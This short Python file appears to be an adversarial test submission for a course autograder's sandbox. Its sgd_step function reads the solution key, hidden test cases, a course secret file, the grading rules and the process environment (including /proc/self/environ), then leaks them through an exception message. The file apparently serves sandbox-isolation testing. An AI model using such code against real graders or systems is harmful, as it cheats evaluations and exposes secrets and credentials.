# Attack: read what the child may not: instructor files, the environment, other students.
import os
import sys


def _read(path):
    try:
        with open(path) as file:
            return file.read(200)
    except OSError as error:
        return f"<{type(error).__name__}>"


def sgd_step(param, grad, state, *, lr):
    root = os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))
    seen = {
        "key": _read(os.path.join(root, "solutions", "flashcard_key.json")),
        "hidden": _read(os.path.join(root, "solutions", "hidden_cases.py")),
        "secret": _read(os.path.join(root, "solutions", ".course_secret")),
        "rules": _read(os.path.join(root, "autograder", "cards", "rules.py")),
        "environ": _read("/proc/self/environ") + repr(dict(os.environ)),
    }
    raise RuntimeError(repr(seen))
